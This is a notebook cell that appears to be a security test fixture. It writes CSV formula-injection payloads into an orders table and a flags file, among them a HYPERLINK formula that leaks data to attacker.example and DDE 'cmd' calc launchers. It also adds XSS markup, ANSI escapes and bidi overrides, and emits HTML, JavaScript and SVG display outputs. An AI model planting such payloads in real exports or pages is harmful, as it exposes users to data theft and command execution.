# ruff: noqa
# fmt: off
# hostile: cells that a spreadsheet runs as formulas (=, +, -, @, tab; a carriage return in the flags) and markup that a
#   browser runs (<script>, event handlers, javascript: links) written into the cleaned table,
#   the flags and the printed output, plus ANSI escapes, bidi overrides and HTML/JS/SVG
#   display outputs
# base: reference
# insert: end
# %%
from IPython.display import HTML, SVG, Javascript, Markdown, display

INJECT = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert('xss-status')</script>",
    '<img src=x onerror="alert(1)">',
    "\u202eevil\u202c",
]
hostile = orders_clean.copy()
hostile.iloc[: len(INJECT), hostile.columns.get_loc("status")] = INJECT
hostile.iloc[len(INJECT), hostile.columns.get_loc("customer_id")] = "=cmd|' /C calc'!A0"
hostile.iloc[len(INJECT) + 1, hostile.columns.get_loc("currency")] = (
    "<b onmouseover=alert(2)>EUR</b>"
)
hostile.to_csv(OUTPUTS / "orders_clean.csv", index=False)
flags = json.loads((OUTPUTS / "flags.json").read_text())
flags["orphan_order_ids"] = flags["orphan_order_ids"] + [
    "=1+1",
    "\r=2+2",
    "<script>alert('xss-flag')</script>",
]
(OUTPUTS / "flags.json").write_text(json.dumps(flags), encoding="utf-8")
print("\x1b[31mRED\x1b[0m \x1b]0;title\x07 <script>alert('xss-print')</script> =1+1")
display(HTML("<script>alert('xss-html')</script><b>bold</b>"))
display(Javascript("alert('xss-js')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
display(Markdown("[click](javascript:alert('xss-md'))"))
hostile.head(12)
